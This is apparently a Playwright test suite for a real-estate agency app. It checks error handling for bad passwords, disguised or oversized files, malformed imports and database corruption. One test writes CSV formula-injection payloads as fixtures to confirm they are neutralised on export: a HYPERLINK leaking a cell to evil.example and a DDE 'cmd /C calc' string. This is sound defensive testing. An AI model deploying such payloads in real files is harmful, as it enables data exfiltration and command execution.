import { existsSync, mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs'
import { copyFile } from 'node:fs/promises'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import Papa from 'papaparse'
import sharp from 'sharp'
import type { Page } from '@playwright/test'
import { hugePhoto, paper, photoOfTelephone, storedFiles } from './harness/files.ts'
import { savedFile } from './harness/saved-file.ts'
import {
  choose, columnOf, expectCount, figures, fillSignIn, foundAgency, founder, goTo, openAddress, openProperty, signIn, t, userOf,
} from './harness/steps.ts'
import { expect, oneApplication, test } from './harness/test.ts'

// What goes wrong in an office: each says what happened in plain words, loses nothing, and leaves a window that works. A
// full disk is tested on the core itself, where a disk can be made full.

const files = mkdtempSync(join(tmpdir(), 'digit-hab-bad-'))
test.afterAll(() => rmSync(files, { recursive: true, force: true }))

test.describe('in an agency at work', () => {
  const application = oneApplication({ demo: { properties: 40, clients: 12 } })

  test.beforeEach(async () => {
    const page = application().page()
    if (!(await page.getByRole('navigation', { name: t('shell.nav.label') }).isVisible())) await signIn(page, userOf(application().users, 'admin'))
    await openAddress(page, '/properties')
    await expectCount(page, 40)
  })

  test('a wrong password is told, and how to go on', async () => {
    const page = await application().newWindow()
    await fillSignIn(page, { email: userOf(application().users, 'manager').email, password: 'ce n’est pas celui-là' })
    await expect(page.getByRole('alert')).toHaveText(t('error.wrong_password'))
    await expect(page.getByRole('textbox', { name: t('session.sign_in.password') })).toBeFocused()
    await signIn(page, userOf(application().users, 'manager'))
    await page.close()
  })

  test('a paper that calls itself a photo is refused, the good photo beside it comes in', async () => {
    const page = application().page()
    const disguised = paper(join(files, 'facade.jpg'))
    const good = await photoOfTelephone(join(files, 'salon.jpg'))
    await openProperty(page, (await columnOf(page, t('propertyList.column.name')))[0]!, 'photos')
    const tiles = page.getByRole('tabpanel').getByRole('listitem')
    const before = await photoCount(page)
    await choose(page.getByRole('tabpanel'), [disguised, good])
    const told = t('photo.failed', { name: 'facade.jpg', reason: t('error.file_wrong_kind') })
    await expect(page.getByRole('region', { name: t('shell.work.label') })).toContainText(told)
    await expect(tiles).toHaveCount(before + 1)
  })

  test('a photo of 50 megapixels comes in, at the size the house keeps', async () => {
    const page = application().page()
    const huge = await hugePhoto(join(files, 'panorama.jpg'))
    const { width, height } = await sharp(huge, { limitInputPixels: false }).metadata()
    expect(width * height).toBeGreaterThan(50_000_000)
    await openProperty(page, (await columnOf(page, t('propertyList.column.name')))[1]!, 'photos')
    const tiles = page.getByRole('tabpanel').getByRole('listitem')
    const before = await photoCount(page)
    await choose(page.getByRole('tabpanel'), huge)
    await expect(tiles).toHaveCount(before + 1, { timeout: 30_000 })
    await expect(tiles.last().locator('img')).toBeVisible()
    const sides = await Promise.all(storedFiles(application().directory).filter(({ bytes }) => bytes[0] === 0xff && bytes[1] === 0xd8)
      .map(async ({ bytes }) => Math.max((await sharp(bytes).metadata()).width, (await sharp(bytes).metadata()).height)))
    expect(Math.max(...sides)).toBeLessThanOrEqual(2560)
  })

  test('formulas in a file stay text, here and in what is saved again', async () => {
    const page = application().page()
    const file = join(files, 'formules.csv')
    writeFileSync(file, [
      'Titre,Prix,Localisation,Chambres',
      '"=HYPERLINK(""http://evil.example/?x=""&A1,""Villa"")",250 000 F Cfa,"Almadies, Dakar",3 chambre',
      '"@SUM(1+1)*cmd|\' /C calc\'!A0",300 000 F Cfa,"Ngor, Dakar",2 chambre',
      'Villa ordinaire,350 000 F Cfa,"Yoff, Dakar",4 chambre',
      '',
    ].join('\n'))
    await openAddress(page, '/properties/import')
    await choose(page.getByRole('main'), file)
    await page.getByRole('button', { name: /^Importer \d/ }).click()
    await expect(page.getByRole('heading', { name: t('importWizard.report', { file: 'formules.csv' }) })).toBeVisible()
    const after = await figures(page)
    expect(after('imported')! + after('duplicates')! + after('rejected')!).toBe(3)
    await page.getByRole('button', { name: t('importWizard.showImported') }).click()
    await expectCount(page, after('imported')!)
    const saved = await savedFile(application(), () => page.getByRole('button', { name: t('propertyList.exportAll') }).click())
    const { data } = Papa.parse<string[]>(saved.bytes.toString('utf8').replace(/^\ufeff/, ''))
    const cells = data.flat().map((cell) => cell.trim())
    expect(cells.some((cell) => /HYPERLINK/.test(cell)), 'the words themselves are kept').toBe(true)
    // https://owasp.org/www-community/attacks/CSV_Injection
    expect(cells.filter((cell) => /^[=@+\t\r]/.test(cell) || /^-[^\d]/.test(cell))).toEqual([])

    // The whole import is taken back, so that what follows finds the agency as it was.
    await openAddress(page, '/properties/import')
    await page.getByRole('button', { name: t('importWizard.undo') }).click()
    await expect(page.getByRole('main').getByText(t('importWizard.undone', { count: after('imported')!, number: String(after('imported')) }))).toBeVisible()
    await page.getByRole('button', { name: t('importWizard.another') }).click()
  })

  test('a list that is none is refused by what is in it', async () => {
    const page = application().page()
    await openAddress(page, '/properties/import')
    for (const [name, bytes, error] of [
      ['liste.csv', Buffer.from('%PDF-1.4\n1 0 obj\n<<>>\nendobj\n%%EOF'), t('error.file_wrong_kind')],
      ['liste.xlsx', Buffer.from('Titre;Prix\nVilla;1\n'), t('error.file_wrong_kind')],
      ['vide.csv', Buffer.from('\n\n'), t('error.import_empty')],
    ] as const) {
      const file = join(files, name)
      writeFileSync(file, bytes)
      await choose(page.getByRole('main'), file)
      const told = page.getByText(error).last()
      await expect(told, name).toBeVisible()
      const back = page.getByRole('button', { name: t('importWizard.otherFile') })
      await expect(back.or(page.getByRole('button', { name: t('importWizard.chooseFile') }))).toBeVisible()
      if (await back.isVisible()) await back.click()
      for (const notice of await page.getByRole('alert').all()) await notice.getByRole('button').last().click()
      await expect(page.getByRole('alert')).toHaveCount(0)
    }
  })
})

test('a damaged database is put aside, told, and a backup brings all of it back', async ({ open }) => {
  test.setTimeout(90_000)
  const application = await open({ demo: { properties: 40, clients: 12 } })
  let page = application.page()
  const admin = userOf(application.users, 'admin')
  await signIn(page, admin)
  await openAddress(page, '/settings?part=backup')
  await page.getByRole('button', { name: t('settings.backup.create') }).click()
  await expect(page.getByRole('cell', { name: t('settings.backup.reason.manual') })).toBeVisible()

  const database = join(application.directory, 'agency.sqlite')
  let damaged = Buffer.alloc(0)
  page = await application.restart(() => {
    damaged = readFileSync(database)
    damaged.fill(0x7b, 0, 8192)
    writeFileSync(database, damaged)
  })
  await expect(page.getByRole('heading', { name: t('session.corrupt.title') })).toBeVisible()
  await expect(page.getByText(t('session.corrupt.text'))).toBeVisible()
  const kept = readdirSync(application.directory).find((name) => name.startsWith('agency.sqlite.corrupt-'))!
  await expect(page.getByText(t('session.corrupt.kept', { name: kept }))).toBeVisible()
  expect(readFileSync(join(application.directory, kept)).equals(damaged), 'kept exactly as it was found').toBe(true)
  expect(existsSync(database)).toBe(false)

  // Closing the window is no answer: the next start still tells it.
  page = await application.restart()
  await expect(page.getByRole('heading', { name: t('session.corrupt.title') })).toBeVisible()
  await page.getByRole('button', { name: t('settings.backup.reason.manual') }).click()
  await expect(page.getByRole('heading', { name: t('session.sign_in.title') })).toBeVisible()
  await signIn(page, admin)
  await goTo(page, 'properties')
  await expectCount(page, 40)
  expect(existsSync(join(application.directory, kept))).toBe(true)
})

test('an import that is left before it began leaves nothing behind', async ({ open }) => {
  const application = await open()
  const page = application.page()
  await foundAgency(page)
  const file = join(files, 'liste courte.csv')
  writeFileSync(file, 'Titre,Prix,Localisation\nVilla à Ngor,250 000 F Cfa,"Ngor, Dakar"\n')
  await openAddress(page, '/properties/import')
  await choose(page.getByRole('main'), file)
  await page.getByRole('button', { name: t('importWizard.otherFile') }).click()
  await expect(page.getByRole('button', { name: t('importWizard.chooseFile') })).toBeVisible()
  await goTo(page, 'properties')
  await expect(page.getByText(t('propertyList.none'))).toBeVisible()
  await application.restart()
  await signIn(application.page(), founder)
  await expect(application.page().getByText(t('dashboard.empty.message'))).toBeVisible()
  await copyFile(file, `${file}.copy`) // the person's own file is untouched and free
})

async function photoCount(page: Page): Promise<number> {
  const tab = await page.getByRole('tab', { name: t('propertyRecord.tab.photos') }).innerText()
  return Number(/\d+$/.exec(tab)?.[0] ?? 0)
}
